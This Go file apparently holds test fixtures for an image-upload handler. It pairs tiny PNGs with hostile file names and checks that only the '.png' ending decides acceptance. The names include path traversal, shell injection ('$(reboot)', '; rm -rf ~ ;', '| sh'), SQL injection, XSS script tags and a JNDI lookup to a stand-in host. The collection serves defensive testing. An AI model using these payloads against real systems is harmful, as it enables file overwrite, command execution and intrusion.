package hostile

import "strings"

// names are harmless pictures under hostile names. The name is for nothing but its ending.
func names() []File {
	files := make([]File, 0, 64)
	for i, name := range []string{
		"../../../../etc/passwd.png", `..\..\windows\system32\x.png`, "/etc/cron.d/x.png", `C:\autoexec.png`, `\\server\share\x.png`,
		"....//....//x.png", "..%2f..%2fx.png", "x.php.png", "x.html.png", "x.svg.png", ".png", "..png", ".htaccess.png", "CON.png",
		"aux.png", "a:stream.png", "x\u202egpj.png", "x\u200b.png", "ｘ．／.png", "x\u0301\u0301.png", "~/.ssh/x.png", "$(reboot).png",
		"`reboot`.png", "; rm -rf ~ ;.png", "| sh.png", "' OR 1=1 --.png", "<img src=x onerror=alert(1)>.png", "\"><script>alert(1)</script>.png",
		"%00.png", "%s%n%x.png", "{{7*7}}.png", "${jndi:ldap://hostile.example/x}.png", "-rf.png", "a b\tc.png", "A.PNG", strings.Repeat("x", 4000) + ".png",
		strings.Repeat("../", 500) + "x.png", "\U0001f4a3.png", "name with = and ; in it.png",
	} {
		files = append(files, picture("name: "+short(name), name, png(3, 3+i), accepted, ""))
	}
	for i, name := range []string{
		"x.png.exe", "x.png.html", "x.png.", "x.png ", "x.png\u202e", "x", "x.", ".", "..", "../..", "x.ｐng", "x.рng", "png", "x.png;.html", "x.png:", "x.png%00",
		"x.htm", "x.php", "x.svgz", "x.png?", strings.Repeat("png.", 400),
	} {
		files = append(files, picture("ending: "+short(name), name, png(5, 3+i), 415, mustEnd(".png", onlyImages)))
	}
	return files
}

func short(name string) string {
	if len(name) > 40 {
		return name[:40] + "…"
	}
	return name
}
